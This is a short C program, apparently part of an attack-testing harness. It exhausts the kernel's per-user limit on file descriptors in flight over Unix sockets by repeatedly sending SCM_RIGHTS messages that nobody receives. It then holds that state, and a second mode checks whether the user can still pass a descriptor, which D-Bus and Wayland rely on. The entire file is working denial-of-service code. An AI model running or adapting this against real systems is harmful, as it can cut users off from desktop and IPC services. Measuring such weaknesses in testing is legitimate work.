/* SPDX-License-Identifier: MIT */
#define _GNU_SOURCE
/*
 * flight take: send descriptors through sockets from which nobody receives, as many as the
 * kernel allows one user; say so, and stay.
 * flight left: on the host, may this user send one? D-Bus and Wayland live by that.
 */
#include "attack.h"

#include <stdbool.h>
#include <sys/resource.h>
#include <sys/socket.h>

enum { AT_ONCE = 250 };

/* Send COUNT copies of stdin through SOCKET. unix(7) */
static bool send_through(int socket, size_t count)
{
	_Alignas(struct cmsghdr) char
		space[CMSG_SPACE(AT_ONCE * sizeof(int))] = { 0 };
	struct iovec byte = { .iov_base = "", .iov_len = 1 };
	struct msghdr message = { .msg_iov = &byte,
				  .msg_iovlen = 1,
				  .msg_control = space,
				  .msg_controllen = CMSG_SPACE(count *
							       sizeof(int)) };
	struct cmsghdr *rights = CMSG_FIRSTHDR(&message);

	/* All of them are 0, the number of stdin. */
	rights->cmsg_level = SOL_SOCKET;
	rights->cmsg_type = SCM_RIGHTS;
	rights->cmsg_len = CMSG_LEN(count * sizeof(int));
	return sendmsg(socket, &message, MSG_DONTWAIT) == 1;
}

int main(int argc, char *argv[])
{
	struct rlimit files;
	int pair[2];

	if (argc != 2)
		return NOT_TRIED;
	if (!strcmp(argv[1], "left")) {
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
			err(NOT_TRIED, "socketpair");
		return send_through(pair[0], 1) ? HELD : OUT;
	}
	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	setrlimit(RLIMIT_NOFILE, &files);
	/* Each socket takes some messages, and then there is the next one. */
	errno = 0;
	while (errno != ETOOMANYREFS &&
	       !socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		while (send_through(pair[0], AT_ONCE))
			;
	puts("taken");
	fflush(stdout);
	pause();
	return HELD;
}
